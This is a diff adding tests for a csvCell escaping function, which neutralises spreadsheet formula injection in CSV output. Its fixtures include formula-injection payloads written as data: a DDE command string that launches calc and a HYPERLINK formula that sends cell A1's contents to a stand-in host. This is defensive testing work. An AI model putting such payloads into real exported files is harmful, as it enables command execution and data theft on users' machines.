@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { InterpError } from '@interp/core';
 import { shownName, shownNames, shownPath, shownValue } from '@interp/core/internal';
-import { plainJson, plainLines, plainText } from '@interp/core/plain-text';
+import { csvCell, plainJson, plainLines, plainText } from '@interp/core/plain-text';
 
 /** What may reach a terminal: assigned characters that are seen, and spaces. */
 const printable = /^[^\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]*$/u;
@@ -93,6 +93,47 @@ describe('an InterpError', () => {
         const { message } = new InterpError('bad-file', `the layer ${text} is wrong; expected another; take another`);
         expect([printable.test(message), length(message) <= 300]).toEqual([true, true]);
         expect(message).toMatch(/^the layer .*is wrong; expected another; take another$/);
+      }),
+    ));
+});
+
+/** The text of a cell as a reader of RFC 4180 has it, and whether it was quoted. */
+const read = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
+
+describe('a cell of a CSV file', () => {
+  it.each([
+    '=1+1',
+    '+cmd',
+    '-2+3',
+    '@SUM(A1)',
+    '\tx',
+    '\rx',
+    '\nx',
+    ' =1',
+    '\ufeff=1',
+    '\u0000\u200b-x',
+    '＝1+1',
+    '－x',
+    '=HYPERLINK("http://a.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '-0.5=1',
+    '-1;2',
+    '-',
+    '+1e',
+  ])('is text where it could be a formula: %j', (text) => expect(read(csvCell(text))).toBe(`'${text}`));
+
+  it.each(['-0.5', '+1', '-1e-7', '-.5', '1.', '-12345.678', '0', 'a=b', "'quoted'", 'e-mail', '2026-11-29', '−3'])(
+    'is as it was where it is none: %s',
+    (text) => expect(csvCell(text)).toBe(text),
+  );
+
+  it('comes back from any reader, whatever it holds, and never begins as a formula', () =>
+    fc.assert(
+      fc.property(fc.oneof(anyText, fc.stringMatching(/^[-=+@,;"'\s1e.]*$/)), (text) => {
+        const cell = csvCell(text);
+        expect([text, `'${text}`]).toContain(read(cell));
+        if (!/^"/.test(cell)) expect(cell).not.toMatch(/[",;\t\r\n]/);
+        if (Number.isNaN(Number(text))) expect(read(cell)).not.toMatch(/^[\s\u200b\ufeff]*[=+@-]/);
       }),
     ));
 });
